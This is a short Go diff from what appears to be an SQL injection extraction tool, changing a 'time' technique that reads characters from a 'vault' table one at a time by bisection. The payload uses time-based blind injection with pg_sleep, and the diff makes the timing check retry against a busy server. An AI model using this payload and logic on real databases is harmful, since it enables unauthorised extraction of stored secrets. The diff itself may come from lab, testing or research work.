@@ -160,10 +160,12 @@ var techniques = []struct {
 	{"time", stolen[:2], func(x extractor) string {
 		const nap = 400 * time.Millisecond
 		return bisect(2, func(at, code int) bool {
-			slow := func() bool {
-				return x.ask(fmt.Sprintf(" AND 0=(SELECT CASE WHEN ascii(substr(v,%d,1))>%d THEN length(pg_sleep(%.1f)::text) ELSE 0 END FROM vault)", at, code, nap.Seconds())).took > nap
+			for range 2 { // a busy machine is slow now and then
+				if x.ask(fmt.Sprintf(" AND 0=(SELECT CASE WHEN ascii(substr(v,%d,1))>%d THEN length(pg_sleep(%.1f)::text) ELSE 0 END FROM vault)", at, code, nap.Seconds())).took < nap {
+					return false
+				}
 			}
-			return slow() && slow() // a busy machine is slow now and then
+			return true
 		})
 	}},
 }
